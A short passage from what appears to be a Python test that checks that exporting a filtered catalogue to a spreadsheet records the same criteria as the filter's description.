    # the list as the filter gives it: only the filter's sentences
    result = export.export_from_catalogue(catalogue, tmp_path / "all.xlsx", flt, ids=listed)
    assert criteria_of(result.path) == catalogue.describe(flt)
